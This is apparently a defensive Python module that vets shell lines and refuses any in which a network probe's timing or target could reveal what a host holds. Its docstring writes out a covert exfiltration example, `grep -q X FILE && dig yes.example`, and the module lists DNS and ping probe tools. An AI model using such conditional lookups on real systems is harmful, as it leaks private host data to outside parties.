# Copyright: (c) 2026, NannyAPI contributors
# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Private to the collection: what a line would tell to other hosts by whether, or at which address, it asks them.

`grep -q X FILE && dig yes.example` sends nothing of the file, and whoever answers for yes.example knows what is in it.
So a program that speaks to other hosts does not run on another one's outcome, unless that outcome tells of nothing but
the network. And an address that a command printed is asked only where the command prints addresses that there are:
awk makes one of any text.
"""

from __future__ import annotations

import re
from collections.abc import Sequence
from dataclasses import dataclass, field, replace

from .errors import Refused
from .verdict import JudgedCommand, JudgedGroup, JudgedMember, JudgedPipeline

_SAYS_NOTHING = frozenset(("echo", "printf", "true", "false", "sleep", "seq"))
# Of what they are given by the pipe before them they tell no more than what is in it.
_FILTERS = frozenset(
    (
        *("awk", "cat", "column", "cut", "egrep", "fgrep", "gawk", "grep", "head", "jq", "mawk", "nl", "paste", "rev"),
        *("sed", "sort", "tac", "tail", "tr", "uniq", "wc"),
    )
)
_PROBES = frozenset(
    (
        *("dig", "getent", "host", "mtr", "nslookup", "ping", "ping6", "resolvectl", "tracepath", "traceroute"),
        "traceroute6",
    )
)
# `test` on words alone; with anything else it looks at files.
_ON_WORDS = frozenset(("-n", "-z", "-eq", "-ne", "-lt", "-le", "-gt", "-ge"))
# How long these take is the caller's choice, and what comes after them comes so much later.
_LASTING = frozenset(("iostat", "mpstat", "pidstat", "sar", "sleep", "top", "vmstat"))

_PRINT_ADDRESSES = {
    "dig": r".*",
    "getent": r"(hosts|ahosts|ahostsv4|ahostsv6) .*",
    "host": r".*",
    "hostname": r"-[iI]|--ip-address|--all-ip-addresses",
    "ip": r".*",
    "ss": r".*",
}
_COMPARED = r"(NR|NF|\$\d+|\$NF)\s*([=!]=|[<>]=?)\s*(\d+|\"[^\"\\]*\")|(\$\d+\s*!?~\s*)?!?/[^/\\]*/"
# What chooses lines and fields; not what makes text.
_CHOOSE = {
    "awk": rf"(-F ?\S \s*)?(({_COMPARED})(\s*(&&|\|\|)\s*({_COMPARED}))*)?\s*"
    r"\{\s*print\s+\$(\d+|NF|\(NF-\d+\))\s*(;\s*exit\s*)?;?\s*\}\s*",
    "cut": r"(-d ?\S?|-f ?[\d,-]+|-s| )*",
    "grep": r".*",
    "egrep": r".*",
    "head": r"(-n ?\d+|-\d+)?",
    "tail": r"(-n ?\+?\d+|-\d+)?",
    "sort": r".*",
    "uniq": r"",
}


@dataclass
class Line:
    """What is known of a line so far: a program whose lasting tells of the host."""

    lasts: str = ""


@dataclass(frozen=True)
class Around:
    """Where a command stands in its line.

    - `outcome`: the program on whose outcome it depends, where that tells of the host, or a file name pattern.
    - `printed_by`: the program whose output it is made of or repeated for, where that is no list of addresses.
    - `stand_in`: whether `1` stands for words that are not yet known.
    """

    outcome: str = ""
    printed_by: str = ""
    stand_in: bool = False
    line: Line = field(default_factory=Line)

    def on(self, outcome: str) -> Around:
        """The same, depending on one more program."""
        return replace(self, outcome=self.outcome or outcome)

    def made_by(self, first: list[list[JudgedPipeline]], stand_in: bool) -> Around:
        """The same, for what is made of what these print."""
        makers = [name for pipelines in first if not _addresses(pipelines) for name in (_name(pipelines),)]
        return replace(self, printed_by=self.printed_by or (makers[0] if makers else ""), stand_in=stand_in)

    def take(self, program: str, speaks: bool) -> None:
        """Raises `Refused` where the program would tell other hosts what an outcome is."""
        depends_on = self.outcome or self.printed_by
        if speaks and self.outcome:
            raise Refused(
                f"`{program}` speaks to other hosts, and whether it does so would depend on `{self.outcome}`, which"
                " looks at this one: they would learn what was found. Send it as a command of its own."
            )
        if speaks and self.printed_by:
            raise Refused(
                f"`{program}` speaks to other hosts, and what `{self.printed_by}` prints could be anything that is on"
                " this one. Only addresses are taken, from ip, ss, hostname -I, getent hosts, dig or host, and chosen"
                " with grep, head, cut -d -f or awk '{print $3}' alone; else write the name or address out."
            )
        if speaks and self.line.lasts:
            raise Refused(
                f"`{self.line.lasts}` would run depending on what this host holds, and `{program}` after it: other"
                " hosts would learn it by how long that takes. Send them as two commands."
            )
        self.line.lasts = self.line.lasts or (program if depends_on and program in _LASTING else "")


def tells(program: str, words: Sequence[str], speaks: bool, looks: bool) -> bool:
    """Whether the outcome of a program tells of this host. `looks`: whether it is given files or their names."""
    if looks:
        return True
    if program in ("test", "["):
        return any(word.startswith("-") and word not in _ON_WORDS for word in words)
    return program not in _SAYS_NOTHING | _FILTERS and not (speaks and program in _PROBES)


def teller(pipelines: list[JudgedPipeline]) -> str:
    """The first program whose outcome tells of this host; empty where there is none."""
    for pipeline in pipelines:
        for first in pipeline.pending.first if pipeline.pending else []:
            if not _addresses(first) and (name := teller(first)):
                return name
        for member in pipeline.pending.stand_in if pipeline.pending else pipeline.commands:
            if name := _member(member):
                return name
    return ""


def _member(member: JudgedMember) -> str:
    if isinstance(member, JudgedCommand):
        return member.arguments[0] if member.tells else ""
    if isinstance(member, JudgedGroup):
        return teller(member.pipelines)
    return teller([*member.condition, *member.then, *member.otherwise])


def _addresses(pipelines: list[JudgedPipeline]) -> bool:
    """Whether what these print is chosen from a list of addresses, and nothing that was made."""
    if len(pipelines) != 1 or pipelines[0].pending:
        return False
    first, *rest = pipelines[0].commands
    return _is_of(_PRINT_ADDRESSES, first) and all(_is_of(_CHOOSE, member) for member in rest)


def _is_of(table: dict[str, str], member: JudgedMember) -> bool:
    if not isinstance(member, JudgedCommand) or member.grants.reads:
        return False
    if any(redirection.source for redirection in member.redirections):
        return False
    name, *words = (word for word in member.arguments if word != "--sandbox")
    return name in table and re.fullmatch(table[name], " ".join(words)) is not None


def _name(pipelines: list[JudgedPipeline]) -> str:
    """The program that prints last of what these run."""
    last = pipelines[-1]
    member = (last.pending.stand_in if last.pending else last.commands)[-1]
    if isinstance(member, JudgedCommand):
        return member.arguments[0]
    return _name(member.pipelines if isinstance(member, JudgedGroup) else member.then)
